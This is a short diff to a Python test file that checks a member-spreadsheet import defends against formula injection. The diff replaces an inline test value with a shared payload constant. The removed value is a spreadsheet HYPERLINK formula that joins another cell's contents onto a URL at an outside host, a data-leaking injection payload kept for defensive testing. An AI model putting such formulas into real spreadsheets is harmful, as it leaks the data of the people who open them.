@@ -11,7 +11,7 @@ from openpyxl import Workbook, load_workbook
 from dangjian.api import safe_row, save_workbook
 from dangjian.db import db
 from tests.factories import make_org
-from tests.spreadsheet_checks import PAYLOAD, assert_inert, formulas
+from tests.spreadsheet_checks import PAYLOAD, SHORT_PAYLOAD, assert_inert, formulas
 
 from .test_member_import_helpers import HEADERS, row, upload
 
@@ -62,7 +62,7 @@ def test_import_template(client, world, login_as):
 def test_import_problem_sheet(client, world, login_as):
     """The name arrives as text (a quote-prefixed cell in the uploaded file);
     short, as the sheet shortens long names."""
-    name = '=HYPERLINK("//e.cn/"&O2)'
+    name = SHORT_PAYLOAD
     book = Workbook()
     book.active.append(HEADERS)
     book.active.append(row(name, branch="无此支部", birth=date(1990, 1, 2)))
